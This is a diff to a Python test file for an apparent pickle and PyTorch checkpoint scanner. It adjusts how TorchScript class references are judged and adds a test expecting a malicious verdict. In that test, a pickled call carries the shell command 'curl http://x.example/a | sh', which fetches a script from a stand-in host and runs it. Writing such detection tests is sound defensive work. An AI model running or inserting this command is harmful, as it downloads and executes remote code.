@@ -69,11 +69,19 @@ def test_parts_of_checkpoints(value: bytes, opinion: Opinion) -> None:
     assert worst(pickle(value), torch=True) is opinion
 
 
-def test_class_of_torchscript_has_a_meaning_in_a_checkpoint_only() -> None:
-    value = pickle(fetch("__torch__.acme", "Net") + EMPTY_TUPLE + b"\x81")
-    assert worst(value, torch=True) is Opinion.ALLOWED
-    assert worst(value) is Opinion.UNKNOWN
+def test_class_of_torchscript_is_unknown_but_in_an_archive_that_has_its_code() -> None:
+    made = fetch("__torch__.acme", "Net") + EMPTY_TUPLE + b"\x81"
+    assert worst(pickle(made), torch=True) is Opinion.UNKNOWN
+    assert examine(checkpoint(made).bytes()).verdict is Verdict.UNVERIFIED
     assert examine(checkpoint(EMPTY_DICT).bytes()).verdict is Verdict.CLEAN
+
+
+def test_command_for_a_class_of_torchscript_is_an_attack_in_any_archive() -> None:
+    made = call("__torch__.acme", "run", text("curl http://x.example/a | sh"))
+    assert worst(pickle(made), torch=True) is Opinion.SUSPICIOUS
+    assert examine(checkpoint(made).bytes()).verdict is Verdict.MALICIOUS
+    archive = checkpoint(made).add("archive/constants.pkl", pickle(EMPTY_TUPLE))
+    assert examine(archive.bytes()).verdict is Verdict.MALICIOUS
 
 
 @needs_torch
